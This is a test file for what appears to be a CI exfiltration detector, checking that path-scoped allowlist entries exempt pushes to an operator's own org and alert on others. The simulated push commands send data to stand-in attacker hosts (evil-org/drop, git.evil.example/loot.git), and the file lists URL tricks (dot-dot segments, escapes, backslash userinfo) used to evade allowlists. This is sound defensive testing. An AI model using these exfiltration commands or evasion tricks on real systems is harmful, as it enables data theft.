/**
 * `destination: HOST/PATH-GLOB` entries (src/correlate/allowlist-paths.ts): on a shared forge or registry the
 * operator's entry names their own org, and a push to another account on the same host still alerts (a
 * host-only `registry.gitlab.com` entry quieted a kaniko push to registry.gitlab.com/evil-org/drop, review of
 * 6eac9f5). Matched on the recognised push's remote only: a push by egress never matches one.
 */
import { describe, expect, it } from 'vitest';
import { remoteRepository, repositoryPathTest } from '../../../src/correlate/allowlist-paths.js';
import { brief, MiB, run, runResolved, Scenario, TEST_DNS } from './builder.js';

const GITLAB_REGISTRY = '35.227.35.254';
const GITHUB_IP = TEST_DNS['github.com']![0]!;

function kanikoPush(destination: string): Scenario {
  const s = new Scenario();
  const c = s.container({ namespace: 'gitlab-runner', image: 'gcr.io/kaniko-project/executor:v1.23.2-debug' });
  const k = s.init(c, '/kaniko/executor', `--context /builds/acme/app --destination ${destination}`);
  s.read(k, '/kaniko/.docker/config.json', 2300).readMany(k, '/builds/acme/app/src', 150, 100_000);
  s.connect(k, GITLAB_REGISTRY, 443)
    .send(k, GITLAB_REGISTRY, 443, 42 * MiB)
    .wait(5_000);
  return s;
}

const entry = (destination: string) => [{ namespace: 'gitlab-runner', destination, reason: 'our image builds' }];

describe('allowlist destination HOST/PATH-GLOB', () => {
  it("exempts a push to the operator's own group and alerts, high, on the same job pushing to another account", () => {
    const scoped = entry('registry.gitlab.com/acme/**');
    // Without an entry the job's own push alerts (its registry login read by the push tool itself).
    expect(brief(run(kanikoPush('registry.gitlab.com/acme/app:v1.4.0').events).alerts)).toEqual([
      expect.objectContaining({ severity: 'high' }),
    ]);
    expect(run(kanikoPush('registry.gitlab.com/acme/app:v1.4.0').events, { allowlist: scoped }).alerts).toEqual([]);
    expect(run(kanikoPush('registry.gitlab.com/acme/team/app:v1').events, { allowlist: scoped }).alerts).toEqual([]);
    const evil = brief(run(kanikoPush('registry.gitlab.com/evil-org/drop:v1').events, { allowlist: scoped }).alerts);
    expect(evil).toEqual([expect.objectContaining({ severity: 'high', destination: 'registry.gitlab.com' })]);
  });

  it('leaves a host-only entry as it was: every account on the host is exempt (why the path form exists)', () => {
    const hostOnly = entry('registry.gitlab.com');
    expect(run(kanikoPush('registry.gitlab.com/evil-org/drop:v1').events, { allowlist: hostOnly }).alerts).toEqual([]);
    const cidr = entry('35.227.0.0/16');
    expect(run(kanikoPush('registry.gitlab.com/evil-org/drop:v1').events, { allowlist: cidr }).alerts).toEqual([]);
  });

  it('kaniko pushes to every --destination: exempt only when the entry covers each', () => {
    const scoped = entry('registry.gitlab.com/acme/**');
    const both = (a: string, b: string) => kanikoPush(`${a} --destination ${b}`).events;
    const own = 'registry.gitlab.com/acme/app:v1';
    expect(run(both(own, own), { allowlist: scoped }).alerts).toEqual([]);
    expect(run(both(own, 'registry.gitlab.com/evil-org/drop:v1'), { allowlist: scoped }).alerts).toHaveLength(1);
    // Two tags of one repository: exempt. Two repositories both under the entry: exempt too (an alert before,
    // when the entry was tested on the first remote only and any other made the push match no path entry).
    expect(run(both(own, 'registry.gitlab.com/acme/app:latest'), { allowlist: scoped }).alerts).toEqual([]);
    expect(run(both(own, 'registry.gitlab.com/acme/team/web:v1'), { allowlist: scoped }).alerts).toEqual([]);
    expect(run(both('registry.gitlab.com/evil-org/drop:v1', own), { allowlist: scoped }).alerts).toHaveLength(1);
  });

  it('`*` stays within one path segment, `**` crosses them', () => {
    const one = entry('registry.gitlab.com/acme/*');
    expect(run(kanikoPush('registry.gitlab.com/acme/app:v1').events, { allowlist: one }).alerts).toEqual([]);
    expect(run(kanikoPush('registry.gitlab.com/acme/team/app:v1').events, { allowlist: one }).alerts).toHaveLength(1);
    // A lookalike org is not acme's.
    expect(run(kanikoPush('registry.gitlab.com/acme-x/app:v1').events, { allowlist: one }).alerts).toHaveLength(1);
  });

  it('a push by egress (no remote) is never exempt by a path entry, where the host entry exempts it', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const agent = s.exec(c, '/opt/agent', '--run', { parent: s.init(c) });
    s.readMany(agent, '/srv/data', 100, MiB);
    s.connect(agent, GITHUB_IP, 443).send(agent, GITHUB_IP, 443, 20 * MiB);
    const withEntry = (destination: string) =>
      runResolved(s.events, { allowlist: [{ namespace: 'ci', destination, reason: 'ci' }] });
    expect((await runResolved(s.events)).alerts).toHaveLength(1);
    expect((await withEntry('github.com')).alerts).toEqual([]);
    expect((await withEntry('github.com/acme/*')).alerts).toHaveLength(1);
    expect((await withEntry('github.com/**')).alerts).toHaveLength(1);
  });

  it('a git push names its repository by URL: own org exempt, another org alerts', () => {
    const push = (url: string, allowlist = [{ namespace: 'ci', destination: 'github.com/acme/*', reason: 'ci' }]) => {
      const s = new Scenario();
      const c = s.container({ namespace: 'ci' });
      const sh = s.init(c);
      s.readMany(sh, '/srv/repo', 100, MiB);
      const git = s.exec(c, '/usr/bin/git', `push ${url} HEAD:main`, { parent: sh });
      s.connect(git, GITHUB_IP, 443)
        .send(git, GITHUB_IP, 443, 60 * MiB)
        .wait(300)
        .exit(git);
      return run(s.events, { allowlist }).alerts;
    };
    expect(push('https://github.com/acme/app.git', [])).toHaveLength(1);
    expect(push('https://github.com/Acme/App.git')).toEqual([]);
    expect(push('git@github.com:acme/app.git')).toEqual([]);
    expect(push('https://github.com/evil/app.git')).toHaveLength(1);
    expect(push('git@github.com:evil/acme.git')).toHaveLength(1);
  });
});

describe('a flag naming the destination given twice', () => {
  const push = (binary: string, args: string) => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/data', 100, MiB);
    const p = s.exec(c, binary, args, { parent: sh });
    s.connect(p, GITLAB_REGISTRY, 443)
      .send(p, GITLAB_REGISTRY, 443, 60 * MiB)
      .wait(300)
      .exit(p);
    const allowlist = [{ namespace: 'ci', destination: 'registry.gitlab.com/acme/**', reason: 'ci' }];
    return run(s.events, { allowlist }).alerts;
  };
  const own = 'registry.gitlab.com/acme/app';
  const evil = 'registry.gitlab.com/evil-org/drop';

  it("crane's last -t is where it pushes, the first is the remote: not exempt", () => {
    expect(push('/usr/bin/crane', `mutate ${own}:1 -t ${own}:2`)).toEqual([]);
    expect(push('/usr/bin/crane', `mutate ${own}:1 -t ${own}:2 --tag ${evil}:1`)).toHaveLength(1);
    expect(push('/usr/bin/crane', `append -b alpine -f /tmp/x.tar -t ${own}:2 -t ${evil}:1`)).toHaveLength(1);
  });

  it("buildx's -t, each pushed: not exempt", () => {
    expect(push('/usr/bin/docker', `buildx imagetools create -t ${own}:2 ${own}:1`)).toEqual([]);
    expect(push('/usr/bin/docker', `buildx imagetools create -t ${own}:2 -t ${evil}:1 ${own}:1`)).toHaveLength(1);
  });
});

describe('gh release upload under `github.com/acme/*`', () => {
  const upload = (args: string, allowlist = [{ namespace: 'ci', destination: 'github.com/acme/*', reason: 'ci' }]) => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/repo', 10, MiB);
    const gh = s.exec(c, '/usr/bin/gh', args, { parent: sh });
    s.read(gh, '/srv/x.tgz', 9 * MiB);
    s.connect(gh, TEST_DNS['api.github.com']![0]!, 443)
      .send(gh, TEST_DNS['api.github.com']![0]!, 443, 9 * MiB)
      .wait(300)
      .exit(gh);
    return run(s.events, { allowlist }).alerts;
  };

  it('--repo OWNER/REPO names the repository on the forge gh pushes to: own org exempt, another alerts', () => {
    expect(upload('release upload -R acme/app v1.4.0 x.tgz', [])).toHaveLength(1);
    expect(upload('release upload -R acme/app v1.4.0 x.tgz')).toEqual([]);
    expect(upload('release upload --repo github.com/acme/app v1.4.0 x.tgz')).toEqual([]);
    expect(upload('release upload -R evil/app v1.4.0 x.tgz')).toHaveLength(1);
  });

  it('without --repo (the repository from the checkout, unseen) no path entry matches: the safe side', () => {
    expect(upload('release upload v1.4.0 x.tgz')).toHaveLength(1);
  });
});

describe('remoteRepository: the host and repository path a remote names', () => {
  it.each([
    ['registry.gitlab.com/acme/app:v1', 'registry.gitlab.com', 'acme/app'],
    ['ghcr.io/acme/app@sha256:0123abcd', 'ghcr.io', 'acme/app'],
    ['ghcr.io/Acme/App:v1@sha256:0123abcd', 'ghcr.io', 'acme/app'],
    ['registry.corp:5000/acme/app:v1', 'registry.corp', 'acme/app'],
    ['localhost:5000/app', 'localhost', 'app'],
    ['acme/app:v1', 'docker.io', 'acme/app'],
    ['nginx:1.27', 'docker.io', 'library/nginx'],
    ['index.docker.io/acme/app', 'docker.io', 'acme/app'],
    ['oci://ghcr.io/acme/charts', 'ghcr.io', 'acme/charts'],
    ['docker://ghcr.io/acme/app:v1', 'ghcr.io', 'acme/app'],
    ['docker://acme/app:v1', 'docker.io', 'acme/app'],
    ['oci://ghcr.io/acme/charts:1.4.0', 'ghcr.io', 'acme/charts'],
    ['https://github.com/acme/app', 'github.com', 'acme/app'],
    ['https://github.com/acme/app.git/', 'github.com', 'acme/app'],
    ['https://x-access-token:ghs_abc@github.com/acme/app.git', 'github.com', 'acme/app'],
    ['ssh://git@github.com/acme/app.git', 'github.com', 'acme/app'],
    ['ssh://git@gitlab.corp:2222/acme/team/app.git', 'gitlab.corp', 'acme/team/app'],
    ['git@github.com:acme/app.git', 'github.com', 'acme/app'],
    ['https://api.github.com/repos/acme/app/releases/12/assets', 'github.com', 'acme/app'],
    ['https://uploads.github.com/repos/acme/app/releases/12/assets?name=x.tgz', 'github.com', 'acme/app'],
    ['https://ghe.corp/api/v3/repos/acme/app/contents/x', 'ghe.corp', 'acme/app'],
    ['https://gitlab.com/api/v4/projects/acme%2Fteam%2Fapp/packages/generic/x/1/y', 'gitlab.com', 'acme/team/app'],
  ])('%s', (remote, host, path) => {
    expect(remoteRepository(remote)).toEqual({ host, path });
  });

  it.each([
    ['acme/app', 'registry-1.docker.io', 'docker.io', 'acme/app'],
    ['nginx:1.27', 'registry-1.docker.io', 'docker.io', 'library/nginx'],
    ['acme/app', 'api.github.com', 'github.com', 'acme/app'],
    ['github.com/Acme/App', 'api.github.com', 'github.com', 'acme/app'],
    ['acme/team/app', 'gitlab.com', 'gitlab.com', 'acme/team/app'],
  ])('%s pushed to %s names no host: the destination gives it', (remote, destination, host, path) => {
    expect(remoteRepository(remote, destination)).toEqual({ host, path });
  });

  it('a one-word remote on a forge (gh release upload TAG, a git remote name) names no repository', () => {
    expect(remoteRepository('v1.4.0', 'api.github.com')).toBeNull();
    expect(remoteRepository('origin', 'github.com')).toBeNull();
  });

  it.each([
    ['origin', 'a git remote name'],
    ['https://gitlab.com/api/v4/projects/1234/packages', 'a numeric GitLab project id'],
    ['https://github.com/acme/../evil/app', 'a dot-dot segment'],
    ['https://github.com/acme%2F..%2Fevil/app', 'a percent escape'],
    ['https://github.com', 'no path'],
    ['https://evil.example\\@github.com/acme/app', 'a backslash before the userinfo'],
    // curl removes dot segments (RFC 3986) before sending: these go to /repos/evil/y and projects/evil%2Fy.
    [
      'https://api.github.com/repos/acme/app/../../evil/y/releases/1/assets',
      'a dot-dot segment after the API repository',
    ],
    [
      'https://api.github.com/repos/acme/app/%2e%2e/%2E%2E/evil/y/releases',
      'an escaped dot-dot after the API repository',
    ],
    [
      'https://gitlab.com/api/v4/projects/acme%2Fapp/../../projects/evil%2Fy/uploads',
      'a dot-dot after the GitLab project',
    ],
    ['https://ghe.corp/api/v3/repos/acme/app/./../../evil/y', 'dot segments after the GHES repository'],
    ['file://github.com/acme/app', 'a local file:// URL (no network)'],
  ])('%s names no repository path (%s)', (remote) => {
    expect(remoteRepository(remote)).toBeNull();
  });

  it('the test ignores case, `.git` on either side, and never matches a null remote', () => {
    const hostGlob = (g: string) => new RegExp(`^${g.replace(/\./g, '\\.').replace(/\*/g, '.*')}$`, 'i');
    const t = repositoryPathTest('GitHub.com/ACME/app.git', hostGlob);
    expect(t('https://github.com/acme/App', 'github.com')).toBe(true);
    expect(t('https://github.com/acme/app2', 'github.com')).toBe(false);
    expect(t(null, 'github.com')).toBe(false);
    expect(repositoryPathTest('*.gitlab.com/acme/**', hostGlob)('registry.gitlab.com/acme/a/b:v1', null)).toBe(true);
  });
});

describe("git's own steps name where a rewritten remote goes (url.<base>.insteadOf / pushInsteadOf)", () => {
  const EVIL_IP = '203.0.113.66';
  const allowlist = [{ namespace: 'ci', destination: 'github.com/acme/*', reason: 'ci' }];
  // `git push URL` runs its transport with the remote as written and the URL git rewrote it to; over ssh, ssh
  // with the rewritten host and path. A config the sensors do not show (~/.gitconfig, .git/config) rewrites.
  const push = (remote: string, step: [binary: string, args: string]) => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/repo', 100, MiB);
    const git = s.exec(c, '/usr/bin/git', `push ${remote} HEAD:main`, { parent: sh });
    const t = s.exec(c, step[0], step[1], { parent: git });
    s.connect(t, EVIL_IP, 443)
      .send(t, EVIL_IP, 443, 60 * MiB)
      .wait(300)
      .exit(t)
      .exit(git);
    return run(s.events, { allowlist }).alerts;
  };

  it('an https remote its helper shows rewritten to another host or account: not exempt', () => {
    const helper = '/usr/lib/git-core/git-remote-https';
    const url = 'https://github.com/acme/app.git';
    expect(push(url, [helper, `${url} ${url}`])).toEqual([]);
    expect(push(url, [helper, `${url} https://git.evil.example/loot.git`])).toHaveLength(1);
    expect(push(url, [helper, `${url} https://github.com/evil/loot.git`])).toHaveLength(1);
  });

  it('an scp-like remote whose ssh step goes to another host or repository: not exempt', () => {
    const ssh = '/usr/bin/ssh';
    const remote = 'git@github.com:acme/app.git';
    expect(push(remote, [ssh, `git@github.com "git-receive-pack 'acme/app.git'"`])).toEqual([]);
    expect(push(remote, [ssh, `git@git.evil.example "git-receive-pack 'loot.git'"`])).toHaveLength(1);
    expect(push(remote, [ssh, `git@github.com "git-receive-pack 'evil/loot.git'"`])).toHaveLength(1);
  });
});

describe('helm push CHART oci://REGISTRY/NS: the chart goes to NS/<its name>, which argv does not show', () => {
  const GHCR_IP = TEST_DNS['ghcr.io']![0]!;
  const helmPush = (destination: string, remote = 'oci://ghcr.io/acme/charts') => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    const helm = s.exec(c, '/usr/local/bin/helm', `push /workspace/app-1.4.0.tgz ${remote}`, { parent: sh });
    s.read(helm, '/root/.config/helm/registry/config.json', 400).read(helm, '/workspace/app-1.4.0.tgz', 40_000);
    s.connect(helm, GHCR_IP, 443).send(helm, GHCR_IP, 443, 48_000).wait(300).exit(helm);
    return run(s.events, { allowlist: [{ namespace: 'ci', destination, reason: 'chart releases' }] }).alerts;
  };

  it('an entry for the namespace, or for any chart under it, exempts; one naming a chart or another namespace does not', () => {
    expect(helmPush('ghcr.io/other/*')).toHaveLength(1);
    expect(helmPush('ghcr.io/acme/*')).toEqual([]);
    expect(helmPush('ghcr.io/acme/charts')).toEqual([]);
    // What helm really pushes to: failed before (the remote's path acme/charts is no acme/charts/x).
    expect(helmPush('ghcr.io/acme/charts/*')).toEqual([]);
    expect(helmPush('ghcr.io/acme/**')).toEqual([]);
    // The chart's name is in the archive, unseen: an entry naming one chart, or a one-letter one, cannot be told.
    expect(helmPush('ghcr.io/acme/charts/app')).toHaveLength(1);
    expect(helmPush('ghcr.io/acme/charts/?')).toHaveLength(1);
    expect(helmPush('ghcr.io/acme/charts/*', 'oci://ghcr.io/evil/charts')).toHaveLength(1);
  });

  it('only for helm and its oci:// remote: an image ref names the repository itself', () => {
    const t = repositoryPathTest('ghcr.io/acme/charts/*', (g) => new RegExp(`^${g.replace(/\./g, '\\.')}$`, 'i'));
    expect(t('oci://ghcr.io/acme/charts', null, 'helm')).toBe(true);
    expect(t('oci://ghcr.io/acme/charts', null, 'flux')).toBe(false);
    expect(t('ghcr.io/acme/charts:v1', null, 'oras')).toBe(false);
    expect(t('ghcr.io/acme/charts:v1', null, 'helm')).toBe(false);
  });
});
